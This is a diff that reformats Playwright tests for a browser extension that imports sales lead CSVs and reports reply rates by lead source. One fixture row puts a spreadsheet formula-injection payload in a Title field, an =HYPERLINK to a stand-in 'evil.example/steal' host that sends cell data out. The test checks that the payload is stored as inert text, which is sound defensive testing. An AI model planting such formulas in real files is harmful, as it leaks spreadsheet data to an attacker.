@@ -15,7 +15,8 @@ import { expect, openPanel, readDb, test } from './fixtures';
 
 const DAY = 86_400_000;
 const SHOTS = path.resolve(process.env.SIDELOG_SHOTS_DIR ?? '.output-screenshots');
-const header = (name: string) => Papa.parse<string[]>(readFileSync(`test/fixtures/leads/${name}.csv`, 'utf8').trim()).data.at(-1)!;
+const header = (name: string) =>
+  Papa.parse<string[]>(readFileSync(`test/fixtures/leads/${name}.csv`, 'utf8').trim()).data.at(-1)!;
 const tmp = (name: string) => path.join(tmpdir(), `sidelog-leads-${process.pid}-${name}`);
 
 /** A CSV with the export's real header row and our rows (by column name; other cells empty). */
@@ -40,7 +41,11 @@ function units(seed: ExportFile) {
     if (!ms.length || ms[0].direction !== 'outbound' || !th.prospectIds.length) continue;
     if (ms.some((m) => m.direction === 'inbound' && m.classification === 'bounce')) continue;
     const reply = ms.find((m) => m.direction === 'inbound' && m.classification === 'human');
-    out.push({ prospect: th.prospectIds[0], prospects: th.prospectIds, replied: !!reply && t(reply) - t(ms[0]) <= 30 * DAY });
+    out.push({
+      prospect: th.prospectIds[0],
+      prospects: th.prospectIds,
+      replied: !!reply && t(reply) - t(ms[0]) <= 30 * DAY,
+    });
   }
   return out;
 }
@@ -57,7 +62,10 @@ async function openImport(panel: Page) {
   await expect(panel.getByRole('heading', { name: 'Import leads' })).toBeVisible();
 }
 
-test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and reply rate by lead source', async ({ context, extensionId }) => {
+test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and reply rate by lead source', async ({
+  context,
+  extensionId,
+}) => {
   test.setTimeout(120_000);
   const now = Date.now();
   const seed = generateSeed({ now, seed: 7 });
@@ -117,7 +125,11 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
   const apEmail = pick((p) => p.emails.length > 0, 10, taken);
   for (const p of apEmail) taken.add(p.id);
   const nameCo = (p: ExportFile['prospects'][number]) => `${p.name}|${p.company}`.toLowerCase();
-  const [apName] = pick((p) => !!p.company && seed.prospects.filter((q) => nameCo(q) === nameCo(p)).length === 1, 1, taken);
+  const [apName] = pick(
+    (p) => !!p.company && seed.prospects.filter((q) => nameCo(q) === nameCo(p)).length === 1,
+    1,
+    taken,
+  );
   const apMatched = [...apEmail, apName];
   const apCols = header('apollo-2024');
   const apRow = (first: string, last: string, company: string, email: string, more: Record<string, string> = {}) => ({
@@ -133,11 +145,26 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
     ...more,
   });
   const apRows = [
-    ...apEmail.map((p) => apRow(p.name.split(' ')[0], p.name.split(' ').slice(1).join(' '), p.company ?? '', p.emails[0].toUpperCase(), { Title: p.title ?? '' })),
+    ...apEmail.map((p) =>
+      apRow(p.name.split(' ')[0], p.name.split(' ').slice(1).join(' '), p.company ?? '', p.emails[0].toUpperCase(), {
+        Title: p.title ?? '',
+      }),
+    ),
     apRow(apName.name.split(' ')[0], apName.name.split(' ').slice(1).join(' '), `${apName.company}, Inc.`, ''),
-    apRow('Ines', 'Duarte', 'Lisboa Labs', 'ines@lisboalabs.example', { Title: 'CTO', Industry: 'Software', '# Employees': '25', City: 'Lisbon', Country: 'Portugal' }),
-    apRow('Kwame', 'Mensah', 'Accra Freight', 'kwame@accrafreight.example', { Title: 'COO', 'Person Linkedin Url': 'http://www.linkedin.com/in/kwame-mensah-42' }),
-    apRow('Eve', 'Mallory', 'Evil Corp', 'eve@evilcorp.example', { Title: '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")' }),
+    apRow('Ines', 'Duarte', 'Lisboa Labs', 'ines@lisboalabs.example', {
+      Title: 'CTO',
+      Industry: 'Software',
+      '# Employees': '25',
+      City: 'Lisbon',
+      Country: 'Portugal',
+    }),
+    apRow('Kwame', 'Mensah', 'Accra Freight', 'kwame@accrafreight.example', {
+      Title: 'COO',
+      'Person Linkedin Url': 'http://www.linkedin.com/in/kwame-mensah-42',
+    }),
+    apRow('Eve', 'Mallory', 'Evil Corp', 'eve@evilcorp.example', {
+      Title: '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")',
+    }),
     apRow('', '', '', '', { Title: 'Intern' }),
   ];
   const apFile = csvFile('apollo-contacts-export.csv', apCols, apRows, true);
@@ -174,7 +201,9 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
   await expect(panel.getByLabel('Use of column Lists')).toHaveValue('trait');
   await expect(panel.getByLabel('Trait name for column Lists')).toHaveValue('lists');
   await expect(panel.getByTestId('lead-summary')).toHaveText('3 new · 11 matched (11 gain details) · 1 skipped');
-  await expect(panel.getByTestId('lead-skipped')).toContainText(`1 skipped: no email, LinkedIn profile URL, or name and company (row ${apRows.length + 1})`);
+  await expect(panel.getByTestId('lead-skipped')).toContainText(
+    `1 skipped: no email, LinkedIn profile URL, or name and company (row ${apRows.length + 1})`,
+  );
   await expect(panel.getByTestId('lead-formulas')).toContainText('kept as plain text and never run');
   await expect(panel.getByTestId('lead-preview')).toContainText('matched by email');
   mkdirSync(SHOTS, { recursive: true });
@@ -183,20 +212,40 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
   await expect(panel.getByTestId('lead-import-done')).toContainText('3 new prospects, 11 completed, 1 row skipped');
 
   // The traits are on the matched prospects; the new people are prospects, stored as text.
-  const stored = await readDb<{ id: string; name: string; title: string | null; traits: Record<string, string>; keys: string[] }>(panel, 'prospects');
+  const stored = await readDb<{
+    id: string;
+    name: string;
+    title: string | null;
+    traits: Record<string, string>;
+    keys: string[];
+  }>(panel, 'prospects');
   expect(stored).toHaveLength(before + 5);
   const byId = new Map(stored.map((p) => [p.id, p]));
-  for (const p of snMatched) expect(byId.get(p.id)?.traits, p.name).toMatchObject({ 'lead source': 'Sales Navigator', 'connection degree': '2nd', source: p.traits.source });
-  for (const p of apMatched) expect(byId.get(p.id)?.traits, p.name).toMatchObject({ 'lead source': 'Apollo', lists: 'Q4 outbound' });
-  expect(stored.find((p) => p.name === 'Eve Mallory')?.title).toBe('=HYPERLINK("http://evil.example/steal?d="&A1,"Open")');
-  expect(stored.find((p) => p.name === 'Kwame Mensah')?.keys).toEqual(['email:kwame@accrafreight.example', 'li:kwame-mensah-42']);
+  for (const p of snMatched)
+    expect(byId.get(p.id)?.traits, p.name).toMatchObject({
+      'lead source': 'Sales Navigator',
+      'connection degree': '2nd',
+      source: p.traits.source,
+    });
+  for (const p of apMatched)
+    expect(byId.get(p.id)?.traits, p.name).toMatchObject({ 'lead source': 'Apollo', lists: 'Q4 outbound' });
+  expect(stored.find((p) => p.name === 'Eve Mallory')?.title).toBe(
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")',
+  );
+  expect(stored.find((p) => p.name === 'Kwame Mensah')?.keys).toEqual([
+    'email:kwame@accrafreight.example',
+    'li:kwame-mensah-42',
+  ]);
 
   // "Reply rate by lead source" is one click from the import.
   await panel.getByRole('button', { name: 'Reply rate by lead source →' }).click();
   await expect(panel.getByRole('tab', { name: 'Dashboard' })).toHaveAttribute('aria-selected', 'true');
   await expect(panel.getByLabel('Trait', { exact: true })).toHaveValue('trait:lead source');
   await panel.getByLabel('Date range').selectOption('all');
-  const source = new Map<string, string>([...snMatched.map((p) => [p.id, 'Sales Navigator'] as const), ...apMatched.map((p) => [p.id, 'Apollo'] as const)]);
+  const source = new Map<string, string>([
+    ...snMatched.map((p) => [p.id, 'Sales Navigator'] as const),
+    ...apMatched.map((p) => [p.id, 'Apollo'] as const),
+  ]);
   const want = new Map<string, string>();
   for (const label of ['Apollo', 'Sales Navigator', 'unknown']) {
     const mine = live.filter((u) => (source.get(u.prospect) ?? 'unknown') === label);
@@ -205,7 +254,8 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
   const rows = panel.getByTestId('trait-table').locator('tbody tr');
   await expect(rows).toHaveCount(3);
   const got = new Map<string, string>();
-  for (const r of await rows.all()) got.set((await r.locator('th .clip').innerText()).trim(), (await r.locator('td.num').innerText()).trim());
+  for (const r of await rows.all())
+    got.set((await r.locator('th .clip').innerText()).trim(), (await r.locator('td.num').innerText()).trim());
   expect(got).toEqual(want);
   await expect(rows.last().locator('th .clip')).toHaveText('unknown'); // its own row, last
   const known = [...contacted].filter((id) => source.has(id)).length;
@@ -218,7 +268,9 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
 
   // The new people show as "not contacted yet", with a filter of their own.
   await panel.getByRole('tab', { name: 'Prospects' }).click();
-  const neverWritten = seed.prospects.filter((p) => !seed.messages.some((m) => m.prospectId === p.id && m.direction === 'outbound') && p.stage === 'contacted').length;
+  const neverWritten = seed.prospects.filter(
+    (p) => !seed.messages.some((m) => m.prospectId === p.id && m.direction === 'outbound') && p.stage === 'contacted',
+  ).length;
   await expect(panel.getByTestId('prospect-count')).toHaveText(`${before + 5} prospects`);
   await panel.getByLabel('Stage filter').selectOption('not-contacted');
   await expect(panel.getByTestId('prospect-count')).toHaveText(`${neverWritten + 5} of ${before + 5} prospects`);
@@ -228,7 +280,10 @@ test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and 
   await expect(panel.locator('.plist li')).toContainText('not contacted yet');
 });
 
-test('a bad lead file shows its message and changes nothing; coverage and the unknown row show; a French Excel sheet imports', async ({ context, extensionId }) => {
+test('a bad lead file shows its message and changes nothing; coverage and the unknown row show; a French Excel sheet imports', async ({
+  context,
+  extensionId,
+}) => {
   test.setTimeout(90_000);
   const now = Date.now();
   const seed = generateSeed({ now, seed: 7 });
@@ -241,23 +296,34 @@ test('a bad lead file shows its message and changes nothing; coverage and the un
   await openImport(panel);
 
   const xlsx = tmp('leads.xlsx');
-  writeFileSync(xlsx, Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, ...Buffer.from('[Content_Types].xml')]));
+  writeFileSync(
+    xlsx,
+    Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, ...Buffer.from('[Content_Types].xml')]),
+  );
   await panel.getByLabel('Lead list (CSV)').setInputFiles(xlsx);
-  await expect(panel.getByTestId('lead-file-error')).toContainText('This is an Excel workbook or another zipped file, not a CSV.');
+  await expect(panel.getByTestId('lead-file-error')).toContainText(
+    'This is an Excel workbook or another zipped file, not a CSV.',
+  );
 
   const huge = tmp('huge.csv');
   const fd = openSync(huge, 'w');
   ftruncateSync(fd, 50 * 1024 * 1024); // 50 MB (sparse): refused from its size, never read
   closeSync(fd);
   await panel.getByLabel('Lead list (CSV)').setInputFiles(huge);
-  await expect(panel.getByTestId('lead-file-error')).toContainText('This file is 50 MB; Sidelog reads lead lists up to 25 MB');
+  await expect(panel.getByTestId('lead-file-error')).toContainText(
+    'This file is 50 MB; Sidelog reads lead lists up to 25 MB',
+  );
 
   const binary = tmp('export.csv');
   writeFileSync(binary, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)));
   await panel.getByLabel('Lead list (CSV)').setInputFiles(binary);
   await expect(panel.getByTestId('lead-file-error')).toContainText('not a text file');
 
-  const noId = csvFile('no-id.csv', ['Job Title', 'Industry', 'Lead Source'], [{ 'Job Title': 'CEO', Industry: 'Retail', 'Lead Source': 'Webinar' }]);
+  const noId = csvFile(
+    'no-id.csv',
+    ['Job Title', 'Industry', 'Lead Source'],
+    [{ 'Job Title': 'CEO', Industry: 'Retail', 'Lead Source': 'Webinar' }],
+  );
   await panel.getByLabel('Lead list (CSV)').setInputFiles(noId);
   await expect(panel.getByTestId('lead-missing-id')).toContainText('No column identifies people');
   await expect(panel.getByRole('button', { name: 'Nothing to import' })).toBeDisabled();
@@ -279,20 +345,36 @@ test('a bad lead file shows its message and changes nothing; coverage and the un
   const unknownUnits = live.filter((u) => !crm.get(u.prospect));
   const last = panel.getByTestId('trait-table').locator('tbody tr').last();
   await expect(last.locator('th .clip')).toHaveText('unknown');
-  await expect(last.locator('td.num')).toHaveText(`${unknownUnits.filter((u) => u.replied).length}/${unknownUnits.length}`);
+  await expect(last.locator('td.num')).toHaveText(
+    `${unknownUnits.filter((u) => u.replied).length}/${unknownUnits.length}`,
+  );
   await expect(last).toHaveClass(/unknown/);
 
   // A sheet made by hand in a French Excel: semicolons, Windows-1252, the header in French.
   const fr = tmp('prospects-salon.csv');
-  writeFileSync(fr, Buffer.from('Prénom;Nom;Société;Poste;Courriel;Source du lead\r\nZoë;Dürr;Crédit Agricole, SA;Directrice générale;zoe.durr@ca.example;Salon VivaTech\r\n', 'latin1'));
+  writeFileSync(
+    fr,
+    Buffer.from(
+      'Prénom;Nom;Société;Poste;Courriel;Source du lead\r\nZoë;Dürr;Crédit Agricole, SA;Directrice générale;zoe.durr@ca.example;Salon VivaTech\r\n',
+      'latin1',
+    ),
+  );
   await openImport(panel);
   await panel.getByLabel('Lead list (CSV)').setInputFiles(fr);
-  await expect(panel.getByTestId('lead-file-summary')).toContainText('1 row, 6 columns · Windows (Excel) encoding · semicolons');
+  await expect(panel.getByTestId('lead-file-summary')).toContainText(
+    '1 row, 6 columns · Windows (Excel) encoding · semicolons',
+  );
   await expect(panel.getByLabel('Use of column Société')).toHaveValue('company');
   await expect(panel.getByLabel('Trait name for column Source du lead')).toHaveValue('lead source');
   await expect(panel.getByTestId('lead-preview')).toContainText('Zoë Dürr');
   await panel.getByRole('button', { name: 'Import 1 lead' }).click();
   await expect(panel.getByTestId('lead-import-done')).toContainText('1 new prospect');
-  const zoe = (await readDb<{ name: string; company: string; title: string; traits: Record<string, string> }>(panel, 'prospects')).find((p) => p.name === 'Zoë Dürr');
-  expect(zoe).toMatchObject({ company: 'Crédit Agricole, SA', title: 'Directrice générale', traits: { 'lead source': 'Salon VivaTech' } });
+  const zoe = (
+    await readDb<{ name: string; company: string; title: string; traits: Record<string, string> }>(panel, 'prospects')
+  ).find((p) => p.name === 'Zoë Dürr');
+  expect(zoe).toMatchObject({
+    company: 'Crédit Agricole, SA',
+    title: 'Directrice générale',
+    traits: { 'lead source': 'Salon VivaTech' },
+  });
 });
